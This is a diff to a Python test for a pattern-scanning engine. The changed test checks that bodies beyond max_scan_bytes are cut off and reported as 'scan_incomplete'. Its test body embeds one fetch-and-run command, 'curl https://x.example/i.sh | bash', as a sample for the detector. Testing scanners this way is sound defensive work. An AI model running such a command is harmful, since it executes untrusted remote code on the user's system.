@@ -118,10 +118,12 @@ def test_engine_handles_the_worst_adversarial_body_for_each_rule(rule):
 
 
 def test_engine_cuts_each_part_to_max_scan_bytes():
-    """A body far beyond the bound costs no more than the bound: the tail is never read."""
+    """A body far beyond the bound costs no more than the bound: the tail is never read, and
+    that it was not read is said (scan_incomplete, test_scan_incomplete.py)."""
     engine = Engine(max_scan_bytes=4096)
     body = "a" * 4096 + " curl https://x.example/i.sh | bash"
-    assert engine.scan(Exchange(direction="inbound", dest="x.example:443", body=body)) == []
+    found = engine.scan(Exchange(direction="inbound", dest="x.example:443", body=body))
+    assert [(f.pattern, f.bytes_total, f.bytes_scanned) for f in found] == [("scan_incomplete", len(body), 4096)]
 
 
 def test_the_probe_reports_a_quadratic_regex_instead_of_hanging():
